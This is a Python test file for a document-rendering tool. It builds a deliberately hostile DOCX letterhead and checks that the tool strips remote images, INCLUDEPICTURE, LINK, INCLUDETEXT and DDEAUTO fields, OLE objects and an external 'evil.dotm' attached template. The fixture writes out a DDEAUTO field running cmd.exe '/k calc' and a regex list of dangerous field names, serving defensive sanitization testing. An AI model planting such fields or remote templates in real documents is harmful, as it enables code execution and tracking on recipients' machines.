"""A letterhead's parts that reach out or run code never reach the DOCX we write, and
what is left out is said; the rest of the letterhead, and the document, stay whole."""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import pytest
from conftest import BASE
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from lxml import etree

from expectmatrix.render.letterhead import read_letterhead

# Documents made in this process (--timeout 0): what is checked is the document, not
# the worker process that makes it with a time limit.
HERE = ("--timeout", "0")

HOST = "http://127.0.0.1:9"  # nothing listens there: a fetch would fail, never succeed
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
UNSAFE = re.compile(r"\b(INCLUDEPICTURE|INCLUDETEXT|LINK|DDE|DDEAUTO|IMPORT|INCLUDE)\b", re.I)
NS = nsdecls("w", "r") + ' xmlns:o="urn:schemas-microsoft-com:office:office"'


def _png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 0, 0)).save(buffer, "PNG")
    return buffer.getvalue()


def _runs(*parts: tuple[str, str]) -> str:
    """Runs of a complex field: ("begin", ""), ("instr", text), ("text", text)..."""
    out = []
    for kind, text in parts:
        if kind in ("begin", "separate", "end"):
            out.append(f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>')
        elif kind == "instr":
            out.append(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>')
        else:
            out.append(f"<w:r><w:t>{text}</w:t></w:r>")
    return "".join(out)


def _add(container: object, xml: str) -> None:
    container._element.append(parse_xml(xml))  # type: ignore[attr-defined]


def hostile_letterhead(path: Path) -> Path:
    """A real letterhead (text, a logo, a page field) with every way of reaching out
    that the issue names, and a few more."""
    doc = docx.Document()
    section = doc.sections[0]
    header, footer = section.header, section.footer
    header.paragraphs[0].text = "ACME LETTERHEAD"
    header.add_paragraph().add_run().add_picture(io.BytesIO(_png()))  # a logo: kept
    header.add_paragraph().add_run().add_picture(io.BytesIO(_png()))  # made remote below
    blip = header._element.xpath(".//a:blip")[-1]
    del blip.attrib[qn("r:embed")]
    blip.set(qn("r:link"), header.part.relate_to(f"{HOST}/remote.png", RT.IMAGE,
                                                 is_external=True))
    # A complex INCLUDEPICTURE field with a cached result, a LINK nested in an IF,
    # a safe IF with a nested PAGE, and an OLE object.
    _add(header, f"<w:p {NS}>" + _runs(
        ("begin", ""), ("instr", f' INCLUDEPICTURE "{HOST}/pixel.png" \\d '), ("separate", ""),
        ("text", "cached picture"), ("end", "")) + "</w:p>")
    _add(header, f"<w:p {NS}>" + _runs(
        ("begin", ""), ("instr", " IF 1 = 1 \""), ("begin", ""),
        ("instr", f' LINK Excel.Sheet.8 "{HOST}/book.xls" "A1" \\a '), ("separate", ""),
        ("text", "linked cell"), ("end", ""), ("instr", '" "" '), ("separate", ""),
        ("text", "linked cell"), ("end", "")) + "</w:p>")
    _add(header, f"<w:p {NS}>" + _runs(
        ("begin", ""), ("instr", " IF "), ("begin", ""), ("instr", " PAGE "),
        ("separate", ""), ("text", "1"), ("end", ""), ("instr", ' > 1 "later page" "" '),
        ("separate", ""), ("end", "")) + "</w:p>")
    ole = Part(PackURI("/word/embeddings/oleObject1.bin"),
               "application/vnd.openxmlformats-officedocument.oleObject",
               b"\xd0\xcf\x11\xe0 object", doc.part.package)
    ole_id = header.part.relate_to(ole, RT.OLE_OBJECT)
    _add(header, f'<w:p {NS}><w:r><w:t>object: </w:t></w:r><w:r><w:object><o:OLEObject '
                 f'Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" '
                 f'ObjectID="_1" r:id="{ole_id}"/></w:object></w:r></w:p>')
    # Footer: a lower-case INCLUDETEXT as a simple field, a DDEAUTO whose code is split
    # over two runs, and a link to a web site (its text stays).
    footer.paragraphs[0].text = "Acme Ltd, 1 Main Street"
    _add(footer, f'<w:p {NS}><w:fldSimple w:instr=" includetext &quot;{HOST}/terms.docx&quot; ">'
                 "<w:r><w:t>included text</w:t></w:r></w:fldSimple></w:p>")
    _add(footer, f"<w:p {NS}>" + _runs(
        ("begin", ""), ("instr", " DDE"), ("instr", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
        ("separate", ""), ("text", "dde result"), ("end", "")) + "</w:p>")
    link_id = footer.part.relate_to("https://acme.example/", RT.HYPERLINK, is_external=True)
    _add(footer, f'<w:p {NS}><w:hyperlink r:id="{link_id}"><w:r><w:t>acme.example</w:t></w:r>'
                 "</w:hyperlink></w:p>")
    buffer = io.BytesIO()
    doc.save(buffer)
    # The attached template, as the issue found it: in settings.xml and its own .rels part.
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "word/settings.xml":
                data = re.sub(rb"(<w:settings[^>]*>)",
                              rb'\1<w:attachedTemplate r:id="rIdTpl"/>', data, count=1)
            out.writestr(info, data)
        out.writestr("word/_rels/settings.xml.rels",
                     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                     'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     '<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/'
                     'officeDocument/2006/relationships/attachedTemplate" '
                     f'Target="{HOST}/evil.dotm" TargetMode="External"/></Relationships>')
    return path


def spec_file(folder: Path) -> Path:
    path = folder / "deal.json"
    path.write_text(json.dumps(BASE), encoding="utf-8")
    return path


def _instructions(z: zipfile.ZipFile) -> list[str]:
    found = []
    for name in z.namelist():
        if name.endswith(".xml"):
            root = etree.fromstring(z.read(name))
            found += [e.text or "" for e in root.iter(qn("w:instrText"), qn("w:delInstrText"))]
            found += [e.get(qn("w:instr")) or "" for e in root.iter(qn("w:fldSimple"))]
    return found


def _dangling(z: zipfile.ZipFile) -> list[str]:
    """References (r:id, r:embed, r:link...) to relationships a part does not have."""
    wrong = []
    for name in z.namelist():
        if not name.endswith(".xml") or name.startswith("["):
            continue
        folder, base = os.path.split(name)
        rels_name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        ids = set()
        if rels_name in z.namelist():
            ids = {r.get("Id") for r in etree.fromstring(z.read(rels_name))}
        for element in etree.fromstring(z.read(name)).iter():
            for key, value in element.attrib.items():
                if key.startswith(f"{{{R_NS}}}") and value not in ids:
                    wrong.append(f"{name}: {key} {value}")
    return wrong


@pytest.fixture
def rendered(run, tmp_path):
    letterhead = hostile_letterhead(tmp_path / "letterhead.docx")
    result = run("render", *HERE, spec_file(tmp_path), "-o", tmp_path / "out", "-f", "docx",
                 "--docx-base", letterhead)
    return result, tmp_path / "out" / "T-1-v1.docx", letterhead


def test_nothing_that_reaches_out_is_written(rendered):
    result, made, _ = rendered
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    with zipfile.ZipFile(made) as z:
        everything = b"".join(z.read(n) for n in z.namelist())
        assert b'TargetMode="External"' not in everything
        assert b"attachedTemplate" not in everything
        assert b"127.0.0.1" not in everything and b"acme.example/" not in everything
        assert not [n for n in z.namelist() if "embeddings" in n or "oleObject" in n]
        assert b"OLEObject" not in z.read("word/header1.xml")
        assert [i for i in _instructions(z) if UNSAFE.search(i)] == []
        for cached in (b"cached picture", b"linked cell", b"included text", b"dde result"):
            assert cached not in everything  # no field's last fetched result either
        assert _dangling(z) == []


def test_what_was_left_out_is_named(rendered):
    result, _, letterhead = rendered
    said = result.stderr
    assert f"attached template {HOST}/evil.dotm" in said
    assert f"image {HOST}/remote.png" in said
    assert "link https://acme.example/" in said
    assert "OLE object word/embeddings/oleObject1.bin" in said
    for field in ("INCLUDEPICTURE in word/header1.xml", "LINK in word/header1.xml",
                  "INCLUDETEXT in word/footer1.xml", "DDEAUTO in word/footer1.xml"):
        assert field in said
    assert "a document fetches nothing when opened" in said
    # The same notices come with the bytes from the library call.
    _, notices = read_letterhead(letterhead)
    assert any("evil.dotm" in n for n in notices)


def test_the_letterhead_itself_is_kept(rendered, run):
    _, made, letterhead = rendered
    document = docx.Document(made)  # python-docx still loads it
    header = document.sections[0].header
    footer = document.sections[0].footer
    assert "ACME LETTERHEAD" in header._element.xml
    pictures = header._element.xpath(".//pic:pic")
    assert len(pictures) == 1  # the logo; the remote picture went with its drawing
    embed = pictures[0].xpath(".//a:blip/@r:embed")[0]
    assert header.part.related_parts[embed].blob.startswith(b"\x89PNG")
    # A safe field built with a nested one stays; the link keeps its text.
    codes = "".join(header._element.xpath(".//w:instrText/text()"))
    assert " IF " in codes and " PAGE " in codes
    assert "acme.example" in footer._element.xml and "Acme Ltd, 1 Main Street" in footer._element.xml
    assert "Vendor sets things up." in document.element.body.xml
    # The same letterhead gives the same document again.
    verified = run("verify", *HERE, made, "--docx-base", letterhead)
    assert verified.exit_code == 0, verified.output


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_converts_the_result(rendered, tmp_path):
    _, made, _ = rendered
    profile = tmp_path / "profile"
    done = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
         "pdf", "--outdir", str(tmp_path / "pdf"), str(made)],
        capture_output=True, text=True, timeout=180)
    pdf = tmp_path / "pdf" / "T-1-v1.pdf"
    assert done.returncode == 0 and pdf.exists(), done.stderr
    from pypdf import PdfReader

    text = "\n".join(p.extract_text() for p in PdfReader(pdf).pages)
    assert "ACME LETTERHEAD" in text and "Vendor sets things up." in text


def test_a_clean_letterhead_has_no_notices(tmp_path):
    doc = docx.Document()
    doc.sections[0].header.paragraphs[0].text = "Plain letterhead"
    doc.save(tmp_path / "plain.docx")
    data, notices = read_letterhead(tmp_path / "plain.docx")
    assert notices == []
    assert b"Plain letterhead" in zipfile.ZipFile(io.BytesIO(data)).read("word/header1.xml")


def test_a_field_whose_kind_is_computed_is_left_out(run, tmp_path):
    """{ {QUOTE "INCLUDEPICTURE"} "http://..." }: Word decides the kind when it updates."""
    doc = docx.Document()
    _add(doc.sections[0].header, f"<w:p {NS}>" + _runs(
        ("begin", ""), ("begin", ""), ("instr", ' QUOTE "INCLUDE" '), ("separate", ""),
        ("text", "INCLUDE"), ("end", ""), ("instr", f'PICTURE "{HOST}/x.png" '),
        ("separate", ""), ("text", "computed"), ("end", "")) + "</w:p>")
    doc.save(tmp_path / "letterhead.docx")
    result = run("render", *HERE, spec_file(tmp_path), "-o", tmp_path / "out", "-f", "docx",
                 "--docx-base", tmp_path / "letterhead.docx")
    assert result.exit_code == 0 and "a field built from other fields" in result.stderr
    with zipfile.ZipFile(tmp_path / "out" / "T-1-v1.docx") as z:
        assert b"127.0.0.1" not in z.read("word/header1.xml")
        assert b"QUOTE" not in z.read("word/header1.xml")


def test_a_package_level_outside_link_is_left_out(tmp_path):
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    path = tmp_path / "letterhead.docx"
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(path, "w") as out:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "_rels/.rels":
                data = data.replace(b"</Relationships>", (
                    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
                    f'officeDocument/2006/relationships/hyperlink" Target="{HOST}/p" '
                    'TargetMode="External"/></Relationships>').encode())
            out.writestr(info, data)
    data, notices = read_letterhead(path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"127.0.0.1" not in z.read("_rels/.rels")
    assert notices and f"link {HOST}/p" in notices[0]


def test_a_letterhead_with_a_broken_part_is_refused(run, tmp_path):
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    path = tmp_path / "letterhead.docx"
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(path, "w") as out:
        for info in src.infolist():
            data = src.read(info.filename)
            out.writestr(info, b"<w:webSettings><unclosed>" if "webSettings" in
                         info.filename else data)
    result = run("render", *HERE, spec_file(tmp_path), "-o", tmp_path / "out", "-f", "docx",
                 "--docx-base", path)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "word/webSettings.xml of the letterhead is not well-formed XML" in result.stderr
    assert not (tmp_path / "out" / "T-1-v1.docx").exists()
